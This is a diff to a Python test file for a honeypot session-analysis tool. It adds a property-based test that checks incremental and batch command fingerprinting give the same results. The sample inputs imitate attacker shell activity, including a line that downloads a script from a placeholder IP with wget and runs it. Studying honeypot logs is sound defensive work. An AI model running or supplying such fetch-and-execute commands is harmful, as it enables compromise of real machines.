@@ -11,6 +11,8 @@ from typing import Any
 
 import independent
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from test_real_logs import logs
 
 from cowrie_sessionstats.commands import Script, Templates, default_vocabulary, fingerprint
@@ -31,6 +33,35 @@ def test_labelled_pairs(shared: Path) -> None:
         pair = json.loads(line)
         same = fingerprint(pair["a"], TEMPLATES) == fingerprint(pair["b"], TEMPLATES)
         assert same == pair["same"], (pair, templates_of(pair["a"]), templates_of(pair["b"]))
+
+
+rows = st.lists(
+    st.sampled_from(
+        [
+            "id", "uname -a", "", " ", "lockr -ia .ssh", "> lockr", "./lockr x", "passwd", "d29y",
+            "Xk29sLq", "echo d29y >> x", "aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=", "echo 'a", "b'",
+            "echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= >> x", "cat " + "x " * 300, "cat <x>" * 90,
+            "cd /tmp; wget http://192.0.2.1/kqzxw.sh; sh kqzxw.sh", "./kqzxw.sh",
+            "cat " + "y " * 900,
+        ]
+    ),
+    min_size=1,
+    max_size=12,
+)  # fmt: skip
+
+
+@settings(max_examples=1000, derandomize=True)
+@given(st.lists(rows, max_size=3))
+def test_many_lines_count_as_one_after_the_other(given_rows: list[list[str]]) -> None:
+    """A row of lines, whether it came before or not."""
+    slow, fast = Script(), Script()
+    for row in given_rows:
+        for line in row:
+            slow.add(line, TEMPLATES)
+        fast.extend(row, TEMPLATES)
+        for name in ("links", "count", "templates", "long", "template", "_last"):
+            assert getattr(fast, name) == getattr(slow, name)
+    assert fast.fingerprint() == slow.fingerprint()
 
 
 @pytest.mark.parametrize("seed", [1, 2, 3])
